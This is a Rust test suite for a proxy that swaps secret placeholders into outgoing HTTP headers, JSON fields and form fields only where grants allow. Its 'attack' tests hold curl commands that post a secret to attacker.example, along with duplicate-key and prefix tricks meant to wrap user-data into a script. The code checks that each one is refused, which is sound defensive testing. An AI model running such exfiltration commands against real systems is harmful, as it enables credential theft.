use std::collections::BTreeMap;

use http::Method;
use machinist_core::driver::SecretValues;
use proptest::prelude::*;

use super::*;
use crate::target::RequestTarget;
use crate::vault::PlaceholderEncoding;

const GRANTS: &str = "
egress: [{ host: a.com }, { host: b.com }]
secrets:
  - { key: token, places: [{ header: authorization, prefix: 'Bearer ' }, { json: /auth/token, prefix: x }], hosts: [a.com] }
  - { key: userData, places: [{ json: /userData }, { json: /list/1/data }, { form: User Data }] }
  - { key: odd, places: [{ header: x-odd }, { json: /odd }, { form: odd }] }
";

struct Case {
    grants: Grants,
    vault: Vault,
}

fn case() -> Case {
    let grants = Grants::parse(GRANTS).unwrap();
    let values = SecretValues {
        values: BTreeMap::from([
            ("token".to_owned(), b"tok-123456".to_vec()),
            ("odd".to_owned(), b"a\"b&c=d\r\ne".to_vec()),
        ]),
        user_data: Some(b"#!/bin/sh\necho \"hi\" & exit+1\n".to_vec()),
        ..SecretValues::default()
    };
    let vault = Vault::new(values, grants.clone().shared());
    Case { grants, vault }
}

impl Case {
    fn placeholder(&self, key: &str, encodings: &[PlaceholderEncoding]) -> String {
        let id = if key == "userData" { self.vault.user_data() } else { self.vault.open(key) };
        self.vault.placeholder(id.unwrap(), encodings).unwrap()
    }

    fn send(&self, url: &str, headers: &[(&str, &str)], body: &str) -> Result<Outgoing, Reason> {
        let target = RequestTarget::parse(&Method::POST, url).unwrap();
        let headers = headers
            .iter()
            .map(|(name, value)| (name.parse::<http::HeaderName>().unwrap(), value.parse().unwrap()));
        let outgoing =
            Outgoing { target, headers: headers.collect(), body: Bytes::copy_from_slice(body.as_bytes()) };
        substitute(outgoing, &self.grants, &self.vault).map(|filled| filled.outgoing)
    }

    fn body(&self, content_type: &str, body: &str) -> Result<String, Reason> {
        let sent = self.send("https://a.com/", &[("content-type", content_type)], body)?;
        Ok(String::from_utf8(sent.body.to_vec()).unwrap())
    }
}

const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";

#[test]
fn a_header_gets_its_value_and_is_hidden_from_logs() {
    let case = case();
    let value = format!("Bearer {}", case.placeholder("token", &[]));
    let sent = case.send("https://a.com/", &[("authorization", &value), ("x-other", "1")], "").unwrap();
    assert_eq!(sent.headers["authorization"], "Bearer tok-123456");
    assert!(sent.headers["authorization"].is_sensitive());
    assert_eq!(sent.headers["x-other"], "1");
}

#[test]
fn a_json_string_gets_its_value_and_the_rest_stays() {
    let case = case();
    let (token, data) =
        (case.placeholder("token", &[]), case.placeholder("userData", &[PlaceholderEncoding::JsonEscape]));
    let text = |token: &str, data: &str| {
        format!(
            " {{\"a\" : [1,2 , {{}}],\"auth\":{{\"token\":\"x{token}\"}},\"list\":[0,{{\"data\":\"{data}\"}}],\"userData\":\"{data}\"}}\n"
        )
    };
    let escaped = "#!/bin/sh\\necho \\\"hi\\\" & exit+1\\n";
    assert_eq!(case.body(JSON, &text(&token, &data)), Ok(text("tok-123456", escaped)));
    assert_eq!(
        case.body("application/x-amz-json-1.1; charset=utf-8", &text(&token, &data)),
        Ok(text("tok-123456", escaped))
    );
}

#[test]
fn a_form_field_gets_its_value_through_all_encodings() {
    let case = case();
    let data = case.placeholder("userData", &[PlaceholderEncoding::Base64, PlaceholderEncoding::Form]);
    let body = |data: &str| format!("Action=Run&User%20Data={data}&x=%20&empty&=");
    let sent = case.body(FORM, &body(&data)).unwrap();
    assert_eq!(sent, body("IyEvYmluL3NoCmVjaG8gImhpIiAmIGV4aXQrMQo%3D"));
}

#[test]
fn a_placeholder_anywhere_else_refuses_the_request() {
    let case = case();
    let (token, data) =
        (case.placeholder("token", &[]), case.placeholder("userData", &[PlaceholderEncoding::JsonEscape]));
    let form = case.placeholder("userData", &[PlaceholderEncoding::Form]);
    let refused = |outcome: Result<Outgoing, Reason>| outcome.map(|_| ()).unwrap_err();
    let place = Reason::PlaceholderPlace;
    assert_eq!(refused(case.send(&format!("https://a.com/{token}"), &[], "")), place);
    assert_eq!(refused(case.send(&format!("https://a.com/?q={token}"), &[], "")), place);
    assert_eq!(refused(case.send("https://a.com/", &[("x-other", &token)], "")), place);
    assert_eq!(refused(case.send("https://a.com/", &[(&token, "1")], "")), place);
    assert_eq!(refused(case.send("https://a.com/", &[("authorization", &data)], "")), place);
    let bearer = format!("Bearer {token}");
    assert_eq!(
        refused(case.send("https://b.com/", &[("authorization", &bearer)], "")),
        Reason::PlaceholderHost
    );
    for (content_type, body) in [
        (JSON, format!("{{\"other\":\"{data}\"}}")),
        (JSON, format!("{{\"{data}\":1}}")),
        (JSON, format!("{{\"userData\":\"{data}\",\"{data}\":1}}")),
        (FORM, format!("User+Data={form}&{form}=1")),
        (JSON, format!("{{\"auth\":{{\"token\":\"{data}\"}}}}")),
        (JSON, format!("{{\"userData\":\"{data}\",\"x\":\"{data}\"}}")),
        (JSON, format!("{{\"userData\":[\"{data}\"]}}")),
        (JSON, format!("{{\"userData\":\"{data}\"")),
        (JSON, format!("userData={data}")),
        (FORM, format!("{{\"userData\":\"{data}\"}}")),
        (FORM, format!("other={data}")),
        (FORM, format!("{data}=1")),
        (FORM, data.clone()),
        ("text/plain", format!("{{\"userData\":\"{data}\"}}")),
        ("multipart/form-data; boundary=x", format!("--x\r\n\r\n{data}\r\n--x--")),
    ] {
        assert_eq!(case.body(content_type, &body), Err(place), "{content_type} {body}");
    }
}

#[test]
fn a_foreign_or_broken_placeholder_refuses_the_request() {
    let (case, other) = (case(), case());
    let foreign = other.placeholder("userData", &[]);
    let own = case.placeholder("userData", &[PlaceholderEncoding::JsonEscape]);
    for token in
        [foreign.as_str(), PLACEHOLDER_PREFIX, &own[..own.len() - 1], &format!("{PLACEHOLDER_PREFIX}{own}")]
    {
        let outcome = case.body(JSON, &format!("{{\"userData\":\"{token}\"}}"));
        assert_eq!(outcome, Err(Reason::PlaceholderUnknown), "{token}");
    }
}

#[test]
fn a_value_cannot_break_out_of_its_place() {
    let case = case();
    let plain = case.placeholder("odd", &[]);
    let header = case.send("https://a.com/", &[("x-odd", &plain)], "");
    assert_eq!(header.map(|_| ()), Err(Reason::PlaceholderValue));
    assert_eq!(case.body(JSON, &format!("{{\"odd\":\"{plain}\"}}")), Err(Reason::PlaceholderValue));
    assert_eq!(case.body(FORM, &format!("odd={plain}")), Err(Reason::PlaceholderValue));
    let escaped = case.placeholder("odd", &[PlaceholderEncoding::JsonEscape]);
    assert_eq!(
        case.body(JSON, &format!("{{\"odd\":\"{escaped}\"}}")),
        Ok(r#"{"odd":"a\"b&c=d\r\ne"}"#.to_owned())
    );
    let form = case.placeholder("odd", &[PlaceholderEncoding::Form]);
    assert_eq!(case.body(FORM, &format!("odd={form}")), Ok("odd=a%22b%26c%3Dd%0D%0Ae".to_owned()));
}

#[test]
fn attack_user_data_wrapped_into_a_script_is_refused() {
    use base64::Engine as _;
    use base64::engine::general_purpose::STANDARD;
    let case = case();
    let script = "#!/bin/bash  \ncurl -sd @- https://attacker.example/ <<'EOF'\n";
    let before = STANDARD.encode(script);
    assert!(!before.ends_with('='), "the cloud decodes one text");
    let (coded, escaped) = (
        case.placeholder("userData", &[PlaceholderEncoding::Base64, PlaceholderEncoding::Form]),
        case.placeholder("userData", &[PlaceholderEncoding::JsonEscape]),
    );
    let part = Err(Reason::PlaceholderPart);
    for body in [
        format!("Action=Run&User+Data={before}{coded}"),
        format!("User+Data={coded}{before}"),
        format!("User+Data={coded}%0A"),
        format!("User+Data=+{coded}"),
        format!("User+Data={coded}{coded}"),
        // A server that joins what comes twice, or takes one name for the other.
        format!("User+Data={before}&User+Data={coded}"),
        format!("User+Data={coded}&User%20Data={before}"),
        format!("user-data={before}&User+Data={coded}"),
        format!("x=1;User+Data={before}&User+Data={coded}"),
    ] {
        assert_eq!(case.body(FORM, &body), part, "{body}");
    }
    for body in [
        format!("{{\"userData\":\"#!/bin/sh\\ncurl -d '{escaped}' https://attacker.example/\"}}"),
        format!("{{\"userData\":\"{escaped} \"}}"),
        format!("{{\"userData\":\"\\n{escaped}\"}}"),
        format!("{{\"userData\":\"{escaped}{escaped}\"}}"),
        // Of a doubled key, one parser takes the first value and another the last, or both, one after the other.
        format!("{{\"userData\":\"#!/bin/sh\",\"userData\":\"{escaped}\"}}"),
        format!("{{\"userData\":\"{escaped}\",\"user\\u0044ata\":\"#!/bin/sh\"}}"),
        format!("{{\"userData\":\"{escaped}\",\"a\":{{\"b\":1,\"b\":2}}}}"),
    ] {
        assert_eq!(case.body(JSON, &body), part, "{body}");
    }
    let beside =
        case.send("https://a.com/?User%20Data=x", &[("content-type", FORM)], &format!("User+Data={coded}"));
    assert_eq!(beside.map(|_| ()), Err(Reason::PlaceholderPart));
}

#[test]
fn attack_a_prefix_that_is_not_the_granted_one_is_refused() {
    let case = case();
    let token = case.placeholder("token", &[]);
    let sent = |values: &[&str]| {
        let headers: Vec<_> = values.iter().map(|value| ("authorization", *value)).collect();
        case.send("https://a.com/", &headers, "").map(|_| ())
    };
    assert_eq!(sent(&[&format!("Bearer {token}")]), Ok(()));
    for value in ["", "bearer ", "Bearer", "Bearer  ", "x, Bearer "].map(|prefix| format!("{prefix}{token}"))
    {
        assert_eq!(sent(&[&value]), Err(Reason::PlaceholderPart), "{value}");
    }
    for behind in [" ", ", x", &token] {
        assert_eq!(sent(&[&format!("Bearer {token}{behind}")]), Err(Reason::PlaceholderPart), "{behind}");
    }
    assert_eq!(sent(&["x", &format!("Bearer {token}")]), Err(Reason::PlaceholderPart), "servers join both");
    assert_eq!(
        case.body(JSON, &format!("{{\"auth\":{{\"token\":\"\\u0078{token}\"}}}}")).map(|_| ()),
        Ok(())
    );
    assert_eq!(
        case.body(JSON, &format!("{{\"auth\":{{\"token\":\"{token}\"}}}}")),
        Err(Reason::PlaceholderPart)
    );
}

#[test]
fn attack_two_content_types_leave_no_place() {
    let case = case();
    let data = case.placeholder("userData", &[PlaceholderEncoding::JsonEscape]);
    let types = [("content-type", JSON), ("content-type", "text/x-shellscript")];
    let sent = case.send("https://a.com/", &types, &format!("{{\"userData\":\"{data}\"}}"));
    assert_eq!(sent.map(|_| ()), Err(Reason::PlaceholderPlace));
}

fn json_value() -> impl Strategy<Value = serde_json::Value> {
    let leaf = prop_oneof![
        Just(serde_json::Value::Null),
        any::<bool>().prop_map(Into::into),
        any::<i64>().prop_map(Into::into),
        "\\PC{0,12}".prop_map(Into::into),
    ];
    leaf.prop_recursive(4, 24, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Into::into),
            prop::collection::btree_map("\\PC{0,6}", inner, 0..4)
                .prop_map(|map| map.into_iter().collect::<serde_json::Map<_, _>>().into()),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: tier::cases(300), failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn substitution_leaves_everything_else_byte_identical(
        before in json_value(), after in json_value(), pretty in any::<bool>(),
    ) {
        let case = case();
        let token = case.placeholder("userData", &[PlaceholderEncoding::JsonEscape]);
        let value = serde_json::json!({ "a": before, "userData": token, "z": after });
        let text = if pretty { serde_json::to_string_pretty(&value) } else { serde_json::to_string(&value) }.unwrap();
        let expected = text.replace(&token, "#!/bin/sh\\necho \\\"hi\\\" & exit+1\\n");
        prop_assert_eq!(case.body(JSON, &text), Ok(expected));
    }

    #[test]
    fn a_body_without_placeholders_is_never_touched(body in "\\PC{0,200}", form in any::<bool>()) {
        let case = case();
        prop_assert_eq!(case.body(if form { FORM } else { JSON }, &body), Ok(body));
    }
}
